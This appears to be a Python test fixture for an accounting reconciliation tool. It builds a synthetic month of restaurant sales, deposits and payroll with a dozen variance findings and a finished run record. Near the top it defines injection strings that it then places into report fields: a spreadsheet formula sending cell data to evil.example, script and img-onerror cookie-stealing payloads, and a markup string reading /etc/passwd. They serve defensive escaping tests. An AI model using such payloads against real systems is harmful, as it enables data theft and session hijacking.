"""A small month as a finished run: three reconciliations, findings of many causes, hostile texts."""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field
from decimal import Decimal
from typing import Any

import dataframely as dy
import polars as pl

from recon.canonical import SourceFileFact
from recon.frames import CAUSE, RESULT_FRAMES
from recon.frames.events import Accounts, Ledger, Locations
from recon.frames.results import Uncorrected
from recon.identity import posting_key
from recon.money import MONEY, ZERO
from recon.period import parse_period
from recon.pipeline import Check, Headline, Reconciled, ReconciliationStatus
from recon.policy import Policy, Reconciliation
from recon.policy.model import Company, Materiality
from recon.reporting.model import RunRecord
from recon.variances import passed_over, uncorrected_of

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
SCRIPT = "</script><script>alert(document.cookie)</script>"
IMAGE = "<img src=x onerror=alert(1)>"
MARKUP = '#read("/etc/passwd") $x$ *bold* `raw` \\ @ref <label>'
PERIOD = parse_period("2026-09")
JOURNALS = {"sales": "SJ", "deposits": "CRJ", "payroll": "PYRJ"}
CHART = (
    ("1010", "Operating bank", "debit", "balancesheet", "bank", False, True),
    ("1020", "Payroll bank", "debit", "balancesheet", "bank", False, True),
    ("1030", "Cash on hand", "debit", "balancesheet", None, False, True),
    ("1250", "Card clearing", "debit", "balancesheet", None, True, True),
    ("2100", "Accounts payable", "credit", "balancesheet", "ap", False, False),
    ("2200", "Sales tax payable", "credit", "balancesheet", None, False, True),
    ("2350", "Tips payable", "credit", "balancesheet", None, False, True),
    ("2410", "Payroll taxes payable", "credit", "balancesheet", None, False, True),
    ("4010", "Food sales", "credit", "incomestatement", None, False, True),
    ("4020", "Beverage sales", "credit", "incomestatement", None, False, True),
    ("6010", "Wages", "debit", "incomestatement", None, False, True),
    ("6510", "Merchant fees", "debit", "incomestatement", None, False, True),
    ("6520", "Chargebacks", "debit", "incomestatement", None, False, True),
    ("6800", "Other expense", "debit", "incomestatement", None, False, True),
)
Lines = tuple[tuple[str, str], ...]


def frame(schema: type[dy.Schema], rows: Iterable[Mapping[str, Any]]) -> pl.DataFrame:
    """The rows as a frame of the schema; a column that a row lacks is null."""
    columns = {name: column.dtype for name, column in schema.columns().items()}
    return schema.validate(pl.DataFrame([{name: row.get(name) for name in columns} for row in rows], schema=columns))


@dataclass
class Month:
    """A ledger in the making: entries that agree and entries that do not."""

    expected: list[dict[str, Any]] = field(default_factory=list)
    ledger: list[dict[str, Any]] = field(default_factory=list)
    variances: list[dict[str, Any]] = field(default_factory=list)
    effects: list[dict[str, Any]] = field(default_factory=list)
    adjustments: list[dict[str, Any]] = field(default_factory=list)
    adjustment_lines: list[dict[str, Any]] = field(default_factory=list)
    open_items: list[dict[str, Any]] = field(default_factory=list)
    groups: list[dict[str, Any]] = field(default_factory=list)
    pairs: list[dict[str, Any]] = field(default_factory=list)

    def lines(self, side: str, name: str, document: str, day: dt.date, location: str, lines: Lines) -> list[str]:
        """The ids of the lines that were added to one side."""
        rows = self.expected if side == "expected" else self.ledger
        start = len(rows)
        for number, (account, amount) in enumerate(lines, 1):
            line = {
                "entry_id": f"{name}:{document}" if side == "expected" else f"gl:{start}",
                "line_id": f"{name}:{document}:{location}::{account}" if side == "expected" else f"gl:{start + number}",
                "line_no": number, "book": "ACCRUAL", "journal": JOURNALS.get(name, "GJ"), "posting_date": day,
                "account": account, "location": location, "amount": Decimal(amount), "currency": "USD",
                "document": document, "state": "Posted", "statistical": False,
            }  # fmt: skip
            if side == "expected":
                line |= {"reconciliation": name, "rule": "as policy says", "source_ids": [f"S-{document}"]}
            rows.append(line)
        return [row["line_id"] for row in rows[start:]]

    def agree(self, name: str, document: str, day: dt.date, location: str, lines: Lines) -> None:
        """An entry that stands in the ledger as it ought to."""
        left = self.lines("expected", name, document, day, location, lines)
        right = self.lines("actual", name, document, day, location, lines)
        match_id = f"M{len(self.groups):04d}"
        self.groups.append(
            {
                "match_id": match_id, "reconciliation": name, "pass": "reference", "kind": "match",
                "expected_count": len(left), "actual_count": len(right), "difference": ZERO, "days_apart": 0,
                "alternatives": 0, "alternatives_exact": True, "explanation": f"Document {document} equals",
            }
        )  # fmt: skip
        for side, ids in (("expected", left), ("actual", right)):
            for line_id, (_, amount) in zip(ids, lines, strict=True):
                self.pairs.append({"match_id": match_id, "side": side, "line_id": line_id, "amount": Decimal(amount)})

    def differ(
        self,
        name: str,
        cause: str,
        document: str,
        day: dt.date,
        location: str,
        source: Lines,
        ledger: Lines,
        explanation: str,
        ledger_location: str | None = None,
    ) -> None:
        """A finding with its lines on both sides, its effect and, if it is to be booked, its entry."""
        variance_id = f"V{len(self.variances):04d}"
        left = self.lines("expected", name, document, day, location, source)
        right = self.lines("actual", name, document, day, ledger_location or location, ledger)
        self.variances.append(
            {
                "variance_id": variance_id, "reconciliation": name, "cause": cause, "also": [],
                "status": CAUSE[cause].status, "posting_date": day, "document": document,
                "expected_line_ids": left, "actual_line_ids": right, "source_ids": [f"S-{document}"],
                "candidates": [], "explanation": explanation, "first_seen": day, "age_days": (PERIOD.end - day).days,
            }
        )  # fmt: skip
        sums: dict[tuple[str, str], Decimal] = {}
        for sign, place, lines in ((1, location, source), (-1, ledger_location or location, ledger)):
            for account, amount in lines:
                sums[account, place] = sums.get((account, place), ZERO) + sign * Decimal(amount)
        effects = [
            {"variance_id": variance_id, "account": account, "location": place, "amount": amount}
            for (account, place), amount in sorted(sums.items())
            if amount
        ]
        self.effects += effects
        if CAUSE[cause].status == "book" and effects:
            self.adjust(variance_id, name, cause, day, effects, explanation)

    def adjust(
        self, variance_id: str, name: str, cause: str, day: dt.date, effects: list[dict[str, Any]], why: str
    ) -> None:
        """The proposed entry of one finding."""
        key = posting_key([name, cause, variance_id])
        self.adjustments.append(
            {
                "posting_key": key, "kind": "correction", "cause": cause, "journal": JOURNALS[name],
                "posting_date": day, "class": CAUSE[cause].approval, "state": "Draft",
                "variance_ids": [variance_id], "explanation": why,
            }
        )  # fmt: skip
        for number, effect in enumerate(effects, 1):
            line = {key: effect[key] for key in ("account", "location", "amount")}
            self.adjustment_lines.append({"posting_key": key, "line_no": number} | line)


def sale(index: int) -> Lines:
    """The lines of one store-day, a little different every day."""
    food = Decimal("1250.40") + 13 * index
    tax = (food * Decimal("0.0825")).quantize(Decimal("0.01"))
    cash = Decimal("200.00")
    return (("1250", str(food + tax - cash)), ("1030", str(cash)), ("4010", str(-food)), ("2200", str(-tax)))


def opposite(lines: Lines) -> Lines:
    """The same lines with debits and credits swapped."""
    return tuple((account, str(-Decimal(amount))) for account, amount in lines)


def build_month(days: int = 6, stores: int = 3) -> Month:
    """The month with its agreeing entries and one finding of a dozen causes."""
    month = Month()
    for store in range(100, 100 + stores):
        for number in range(1, days + 1):
            day = dt.date(2026, 9, number)
            month.agree("sales", f"SALES-{store}-{day:%m%d}", day, str(store), sale(number + store))
            month.agree(
                "deposits", f"DEP-{store}-{day:%m%d}", day, str(store), (("1010", "970.10"), ("1250", "-970.10"))
            )
        payday = dt.date(2026, 9, 9)
        month.agree("payroll", f"PR-1-{store}", payday, str(store), (("6010", "900.00"), ("1020", "-900.00")))
    add_findings(month)
    month.lines("actual", "general", "ADJ14", dt.date(2026, 9, 26), "100", (("6800", "68.33"), ("2100", "-68.33")))
    return month


def add_findings(month: Month) -> None:
    """One finding each of a dozen causes, some with hostile texts."""
    day = dt.date(2026, 9, 14)
    month.differ("sales", "missing", "SALES-100-0914", day, "100", sale(40), (), "No entry for this store-day.")
    month.differ("sales", "duplicate", "SALES-101-0914", day, "101", (), sale(41), "The same document stands twice.")
    month.differ(
        "sales", "wrong_location", "SALES-102-0914", day, "102", sale(42), sale(42), "Booked at store 100.", "100"
    )
    month.differ(
        "sales", "sign_flip", "SALES-100-0915", day, "100", sale(43), opposite(sale(43)), "Debits and credits swapped."
    )
    month.differ(
        "sales", "transposition", "SALES-101-0915", day, "101", (("4010", "-1254.00"), ("1250", "1254.00")),
        (("4010", "-1245.00"), ("1250", "1245.00")), IMAGE,
    )  # fmt: skip
    month.differ(
        "sales", "rounding", "SALES-102-0915", day, "102", (("2200", "-0.02"), ("1250", "0.02")), (), "Two cents."
    )
    month.differ("sales", "unexpected", FORMULA, day, "100", (), (("4020", "-45.00"), ("1030", "45.00")), SCRIPT)
    month.differ(
        "deposits", "fee_netted", "DEP-100-0916", day, "100",
        (("1010", "970.10"), ("6510", "29.90"), ("1250", "-1000.00")),
        (("1010", "970.10"), ("1250", "-970.10")), "The fee of 29.90 is inside the clearing line. " + "Evidence. " * 80,
    )  # fmt: skip
    month.differ(
        "deposits", "chargeback_unbooked", "DEP-101-0916", day, "101",
        (("6520", "123.30"), ("1250", "-123.30")), (), MARKUP
    )  # fmt: skip
    month.differ(
        "deposits", "late_posted", "DEP-102-0930", dt.date(2026, 9, 30), "102",
        (("1010", "500.00"), ("1250", "-500.00")),
        (), "Posted on 2026-10-02.",
    )  # fmt: skip
    month.differ(
        "deposits", "not_compared", "DEP-102-0917", day, "102", (), (("1010", "77.00"), ("1250", "-77.00")),
        "No deposits file covers this day.",
    )  # fmt: skip
    month.differ(
        "deposits", "missing", "DEP-100-0918", day, "100", (("2100", "-15.00"), ("6510", "15.00")), (),
        "Monthly fee billed through payables.",
    )  # fmt: skip
    late = month.expected[-5]
    month.open_items.append(
        {**late, "side": "expected", "cause": "late_posted", "first_seen": late["posting_date"], "age_days": 0}
    )


def with_draft() -> Month:
    """A month in which nothing is wrong but that one entry still waits as a draft."""
    month = Month()
    month.agree("payroll", "PR-1-100", dt.date(2026, 9, 9), "100", (("6010", "900.00"), ("1020", "-900.00")))
    month.differ(
        "payroll", "draft_pending", "PR-2-100", dt.date(2026, 9, 23), "100",
        (("6010", "640.00"), ("1020", "-640.00")), (), "A draft entry of the same document waits.",
    )  # fmt: skip
    return month


def bridge_rows(month: Month) -> list[dict[str, Any]]:
    """Rows A to J per account and location, for all and for each reconciliation."""
    rows: list[dict[str, Any]] = []
    for name in (None, *JOURNALS):
        ledger = [line for line in month.ledger if name is None or line["journal"] == JOURNALS[name]]
        found = {row["variance_id"]: row for row in month.variances if name in (None, row["reconciliation"])}
        effects = [effect for effect in month.effects if effect["variance_id"] in found]
        cells = sorted({(row["account"], row["location"]) for row in (*ledger, *effects)})
        for account, location in cells:
            own = [line for line in ledger if (line["account"], line["location"]) == (account, location)]
            mine = [effect for effect in effects if (effect["account"], effect["location"]) == (account, location)]
            rows += cell_rows(name, account, location, own, [(found[one["variance_id"]], one) for one in mine])
    return rows


def cell_rows(
    name: str | None,
    account: str,
    location: str,
    lines: list[dict[str, Any]],
    effects: list[tuple[dict[str, Any], dict[str, Any]]],
) -> list[dict[str, Any]]:
    """The bridge of one account and location."""
    opening = Decimal("1000.00") if account.startswith("1") and name is None else ZERO
    parts: list[tuple[str, str, int, Decimal]] = [("A", "Opening", 0, opening)]
    for journal in sorted({line["journal"] for line in lines}):
        own = [line["amount"] for line in lines if line["journal"] == journal]
        parts.append(("B", f"Activity {journal}", len(own), sum(own, ZERO)))
    balance = sum((part[3] for part in parts), ZERO)
    parts.append(("C", "Balance per ledger", len(lines), balance))
    sums = dict.fromkeys("DFG", ZERO)
    for row, status in (("D", "book"), ("D", "info"), ("F", "ask"), ("G", "timing")):
        causes = sorted({variance["cause"] for variance, _ in effects if variance["status"] == status})
        for cause in causes:
            own = [effect["amount"] for variance, effect in effects if variance["cause"] == cause]
            parts.append((row, CAUSE[cause].title, len(own), sum(own, ZERO)))
            sums[row] += sum(own, ZERO)
    parts += [("E", "Adjusted ledger", 0, balance + sums["D"]), ("H", "Passed below threshold", 0, ZERO)]
    parts += [("I", "Unexplained", 0, ZERO), ("J", "Per source", 0, balance + sum(sums.values(), ZERO))]
    return [
        {
            "reconciliation": name, "account": account, "location": location, "row": row, "label": label,
            "count": count, "amount": amount,
        }
        for row, label, count, amount in sorted(parts)
    ]  # fmt: skip


def tie_out_rows() -> list[dict[str, Any]]:
    """A leg that agrees, one that does not and one that has no source."""
    row = {"location": "100", "business_date": dt.date(2026, 9, 1), "left_ids": ["t1"], "right_ids": ["p1"]}
    agreed = {"left_amount": Decimal("970.10"), "right_amount": Decimal("970.10"), "difference": ZERO}
    apart = {"left_amount": Decimal("970.10"), "right_amount": Decimal("958.10"), "difference": Decimal("12.00")}
    return [
        {**row, **agreed, "leg": "tenders-payments"},
        {**row, **apart, "leg": "tenders-payments", "location": "101", "cause": "amount"},
        {**row, "leg": "deposits-bank", "cause": "not_compared"},
    ]


def result_frames(month: Month) -> dict[str, pl.DataFrame]:
    """The twelve result frames of the month."""
    rejects = [
        {"source": "retail_tickets.csv", "row": 17, "field": "Total", "value": "1e3", "reason": "not an amount"},
        {"source": "retail_tickets.csv", "row": 18, "field": "Type", "value": SCRIPT, "reason": "not sale or return"},
        {
            "source": "retail_tickets.csv",
            "row": 19,
            "field": "Ticket #",
            "value": FORMULA,
            "reason": "twice in the file",
        },
    ]
    rows: dict[str, list[dict[str, Any]]] = {
        "expected": month.expected,
        "matches": month.pairs,
        "match_groups": month.groups,
        "variances": month.variances,
        "variance_lines": month.effects,
        "bridge": bridge_rows(month),
        "tie_outs": tie_out_rows(),
        "adjustments": month.adjustments,
        "adjustment_lines": month.adjustment_lines,
        "open_items": month.open_items,
        "rejects": rejects,
        "uncorrected": [],
    }
    frames = {name: frame(schema, rows[name]) for name, schema in RESULT_FRAMES.items()}
    frames["uncorrected"] = uncorrected_rows(frames)
    return frames


def uncorrected_rows(frames: Mapping[str, pl.DataFrame]) -> pl.DataFrame:
    """What the month lets pass, after what August left."""
    accounts = frame(
        Accounts,
        [
            {"account": number, "title": title, "normal_balance": side, "type": kind}
            for number, title, side, kind, *_ in CHART
        ],
    )
    own = uncorrected_of(
        passed_over(frames["variances"]), frames["variances"], frames["variance_lines"], accounts, PERIOD
    )
    before = {
        "period": "2026-08", "period_end": PERIOD.start - dt.timedelta(days=1), "variance_id": "V-august",
        "reconciliation": "deposits", "account": "6510", "location": "101", "cause": "fee_unbooked",
        "treatment": "waived", "amount": Decimal("3.10"), "pretax_effect": Decimal("-3.10"),
        "waits_for": [], "note": SCRIPT,
    }  # fmt: skip
    return pl.concat([frame(Uncorrected, [before]), own]) if frames["variances"].height else own


def reconciled(month: Month) -> Reconciled:
    """The month as the core hands it over."""
    frames = result_frames(month)
    debits = frames["adjustment_lines"].filter(pl.col("amount") > 0)["amount"].cast(MONEY).sum() or ZERO
    drafts = [{**line, "line_id": "gl:draft", "state": "Draft"} for line in month.ledger[-1:]]
    return Reconciled(
        period=PERIOD,
        frames=frames,
        ledger=frame(Ledger, [*month.ledger, *drafts]),
        checks=(
            Check("trial_balance", True, ZERO, "every account and location agrees"),
            Check("days_complete", False, None, "17 of 18 store-days have a source"),
            Check("rejects", False, None, "3 rows rejected"),
            Check("bridge_unexplained", True, ZERO, "row I of every bridge"),
            Check("entries_balance", True, ZERO, "debits equal credits in every proposed entry"),
            Check("sources_outside", None, None, "no bank file"),
        ),
        headlines=(
            Headline("net_sales", Decimal("24500.00"), Decimal("23100.00"), Decimal("1355.00")),
            Headline("card", Decimal("20100.00"), Decimal("20100.00"), ZERO),
            Headline("cash", Decimal("3600.00"), Decimal("3645.00"), ZERO),
            Headline("tax", Decimal("2021.25"), Decimal("2021.23"), Decimal("0.02")),
            Headline("gross_pay", Decimal("2700.00"), Decimal("2700.00"), ZERO),
        ),
        statuses=(
            ReconciliationStatus("sales", "open", 25, 18, 7, Decimal("9000.00"), Decimal("45.00"), ZERO),
            ReconciliationStatus("deposits", "not compared", 23, 18, 5, Decimal("168.20"), Decimal("77.00"), ZERO),
            ReconciliationStatus("payroll", "explained", 3, 3, 0, ZERO, ZERO, ZERO),
        ),
        entries_count=frames["adjustments"].height,
        entries_debits=debits,
        pretax_effect=Decimal("-112.40"),
        asked=Decimal("122.00"),
        unexplained=ZERO,
    )


def run_record(month: Month | None = None, company: str = "Harbor & Pine Restaurants <Group>") -> RunRecord:
    """A finished run of the month."""
    facts = [
        {"account": account, "title": title, "normal_balance": normal, "type": kind, "control": control,
         "clearing": clearing, "direct_posting": direct}
        for account, title, normal, kind, control, clearing, direct in CHART
    ]  # fmt: skip
    places = [{"location": str(number), "merchant_ids": f"10102394{number}"} for number in (100, 101, 102)]
    journals = {name: Reconciliation(journals=(code,), document="{date}") for name, code in JOURNALS.items()}
    return RunRecord(
        run_id="0f3a9c1b7e55",
        found=reconciled(build_month() if month is None else month),
        policy=Policy(
            company=Company(name=company, preparer="M. Castillo"),
            reconciliations=journals,
            rules=(),
            materiality=Materiality(overall=Decimal("500.00")),
        ),
        accounts=frame(Accounts, facts),
        locations=frame(Locations, places),
        files=(
            SourceFileFact("retail_tickets.csv", "sales", 16345, "ab" * 32, rows_outside=12, profile="pos"),
            SourceFileFact("intacct_gl_detail.csv", "ledger", 6728, "cd" * 32, profile="gl"),
        ),
        policy_digest="ef" * 32,
        parameters={"period": "2026-09", "only": "", "as_of": ""},
        version="0.1.0",
        prepared_by="M. Castillo",
        prepared_at=dt.datetime(2026, 10, 5, 14, 30, tzinfo=dt.UTC),
    )


def empty_record() -> RunRecord:
    """A run that found nothing at all: every result frame is empty."""
    return run_record(Month())
